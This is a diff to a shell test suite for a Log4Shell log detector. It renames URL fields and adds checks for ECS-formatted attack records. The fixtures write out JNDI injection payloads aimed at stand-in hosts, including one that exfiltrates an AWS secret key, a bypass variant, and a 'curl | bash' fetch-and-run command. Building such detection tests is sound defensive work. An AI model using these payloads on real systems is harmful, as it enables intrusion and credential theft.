@@ -25,9 +25,9 @@ attacks() {
     [ "$status" -eq 1 ]
     echo "$output" | jq_alerts '.kensa.verdict == "attack" and .kensa.line == 2
         and .source.ip == "203.0.113.7" and .kensa.log_time == "11/Dec/2021:10:00:01 +0000"
-        and .url.scheme == "ldap" and .url.domain == "x.evil.example"
-        and .url.port == 1389 and .url.path == "/a"
-        and .url.registered_domain == "evil.example" and .kensa.threat == "log4shell"
+        and .threat.indicator.url.scheme == "ldap" and .threat.indicator.url.domain == "x.evil.example"
+        and .threat.indicator.url.port == 1389 and .threat.indicator.url.path == "/a"
+        and .threat.indicator.url.registered_domain == "evil.example" and .kensa.threat == "log4shell"
         and .event.dataset == "kensa.logs" and (.event.original | test("jndi"))'
 }
 
@@ -81,7 +81,7 @@ X
     [ "$status" -eq 1 ]
     echo "$output" | jq_any '.kensa.line == 1 and .kensa.decoding == "b64" and .kensa.verdict == "attack"'
     echo "$output" | jq_any '.kensa.line == 2 and .kensa.command == "curl -s 198.51.100.9/x.sh|bash"
-        and .url.domain == "198.51.100.9" and .url.registered_domain == "198.51.100.9"'
+        and .threat.indicator.url.domain == "198.51.100.9" and .threat.indicator.url.registered_domain == "198.51.100.9"'
 }
 
 @test "callbacks: exfiltration, CVE-2021-45046 host, ldap:/host, two payloads" {
@@ -93,12 +93,12 @@ a=${jndi:ldap://one.example/a} b=${jndi:rmi://two.example.co.jp:1099/b}
 X
     run k logs --json "$L/cb.txt"
     echo "$output" | jq_any '.kensa.line == 1 and .kensa.exfil == true
-        and .url.domain == "${env:AWS_SECRET_ACCESS_KEY}.evil.example"
-        and .url.registered_domain == "evil.example"'
-    echo "$output" | jq_any '.kensa.line == 2 and .url.domain == "127.0.0.1#evil.example"
-        and .url.port == 1389'
-    echo "$output" | jq_any '.kensa.line == 3 and .kensa.verdict == "attack" and .url.domain == "x.evil.example"'
-    [ "$(echo "$output" | jq -r 'select(.kensa.line == 4 and .kensa.verdict == "attack") | .url.registered_domain' | sort | tr '\n' ' ')" = "example.co.jp one.example " ]
+        and .threat.indicator.url.domain == "${env:AWS_SECRET_ACCESS_KEY}.evil.example"
+        and .threat.indicator.url.registered_domain == "evil.example"'
+    echo "$output" | jq_any '.kensa.line == 2 and .threat.indicator.url.domain == "127.0.0.1#evil.example"
+        and .threat.indicator.url.port == 1389'
+    echo "$output" | jq_any '.kensa.line == 3 and .kensa.verdict == "attack" and .threat.indicator.url.domain == "x.evil.example"'
+    [ "$(echo "$output" | jq -r 'select(.kensa.line == 4 and .kensa.verdict == "attack") | .threat.indicator.url.registered_domain' | sort | tr '\n' ' ')" = "example.co.jp one.example " ]
 }
 
 @test "not an attack: escapes, truncation, other lookups, shells, templates, hunters" {
@@ -151,14 +151,14 @@ PY
     run k logs --json "$L/big.log"
     [ "$status" -eq 1 ]
     echo "$output" | no_run | jq -e -s 'length == 2'
-    echo "$output" | jq_any '.kensa.line == 2 and .url.domain == "long.evil.example"'
+    echo "$output" | jq_any '.kensa.line == 2 and .threat.indicator.url.domain == "long.evil.example"'
     echo "$output" | jq_any '.kensa.line == 3'
 }
 
 @test "standard input" {
     run sh -c "printf 'a\n\${jndi:dns://stdin.evil.example}\n' | '$KENSA' logs --json --no-summary -"
     [ "$status" -eq 1 ]
-    echo "$output" | jq_alerts '.kensa.line == 2 and .url.scheme == "dns"'
+    echo "$output" | jq_alerts '.kensa.line == 2 and .threat.indicator.url.scheme == "dns"'
 }
 
 @test "evidence beyond the string: multi-line records, Log4j errors, second stage" {
@@ -172,8 +172,8 @@ PY
 GET /ExploitQ8v7ygBW4i.class HTTP/1.1 | User-Agent: Java/1.8.0_181
 X
     run k logs --json "$L/multi.log"
-    echo "$output" | jq_any '.kensa.line == 2 and .kensa.verdict == "attack" and .url.domain == "poly.evil.example"'
-    echo "$output" | jq_any '.kensa.line == 5 and .kensa.verdict == "attack" and .url.domain == "192.0.2.5"
+    echo "$output" | jq_any '.kensa.line == 2 and .kensa.verdict == "attack" and .threat.indicator.url.domain == "poly.evil.example"'
+    echo "$output" | jq_any '.kensa.line == 5 and .kensa.verdict == "attack" and .threat.indicator.url.domain == "192.0.2.5"
         and .kensa.log_time == "2021-12-12 10:00:00"'
     echo "$output" | jq_any '.kensa.line == 6 and .kensa.verdict == "suspicious"'
     echo "$output" | jq_any '.kensa.line == 7 and .kensa.verdict == "attack"'
@@ -251,6 +251,38 @@ X
       > "$L/pct.log"
     run k logs --json "$L/pct.log"
     [ "$status" -eq 1 ]
-    echo "$output" | jq_alerts '.url.domain == "127.0.0.1#evil.example"
-        and .url.port == 1389'
+    echo "$output" | jq_alerts '.threat.indicator.url.domain == "127.0.0.1#evil.example"
+        and .threat.indicator.url.port == 1389'
+}
+
+@test "attack records: the line's own time in UTC, the request, the callback as destination and indicator, ATT&CK and the CVE" {
+    L="$BATS_TEST_TMPDIR"
+    printf '%s\n' '203.0.113.7 - - [11/Dec/2021:19:00:01 +0900] "GET /?q=${jndi:ldap://x.evil.example:1389/a} HTTP/1.1" 200 5 "-" "curl/7.0"' \
+        '2021-12-12 10:00:00,123 WARN ${jndi:rmi://192.0.2.5:1099/e}' \
+        '{"@timestamp":"2021-12-12T10:00:00.5+01:00","remote_addr":"gw.example","request_method":"POST","status":500,"http_user_agent":"${jndi:dns://n.evil.example/a}"}' \
+        > "$L/a.log"
+    TZ=Asia/Tokyo run k logs --json "$L/a.log"
+    [ "$status" -eq 1 ]
+    echo "$output" | jq_any '.kensa.line == 1 and ."@timestamp" == "2021-12-11T10:00:01Z"
+        and (.event.created | startswith("20")) and .event.created != ."@timestamp"
+        and .kensa.log_time == "11/Dec/2021:19:00:01 +0900"
+        and .http.request.method == "GET" and .http.response.status_code == 200
+        and .url.original == "/?q=${jndi:ldap://x.evil.example:1389/a}"
+        and .user_agent.original == "curl/7.0"
+        and .destination.domain == "x.evil.example" and .destination.port == 1389
+        and .threat.indicator.type == "url"
+        and .threat.indicator.url.original == "ldap://x.evil.example:1389/a"
+        and .threat.technique.id == ["T1190"] and .threat.tactic.id == ["TA0001"]
+        and .vulnerability.id == ["CVE-2021-44228"]
+        and .related.ip == ["203.0.113.7"] and .related.hosts == ["x.evil.example"]'
+    # no zone: the host's local time (TZ), fraction kept; an address callback
+    echo "$output" | jq_any '.kensa.line == 2 and ."@timestamp" == "2021-12-12T01:00:00.123Z"
+        and .destination.ip == "192.0.2.5" and .destination.port == 1099
+        and (has("http") | not) and (has("url") | not)'
+    # JSON: a name as client goes to source.address and related.hosts
+    echo "$output" | jq_any '.kensa.line == 3 and ."@timestamp" == "2021-12-12T09:00:00.500Z"
+        and .source.address == "gw.example" and (.source | has("ip") | not)
+        and .http.request.method == "POST" and .http.response.status_code == 500
+        and (.related.hosts | index("gw.example") != null)'
+    echo "$output" | python3 "$KENSA_TOP/tests/helpers/ecs_check.py"
 }
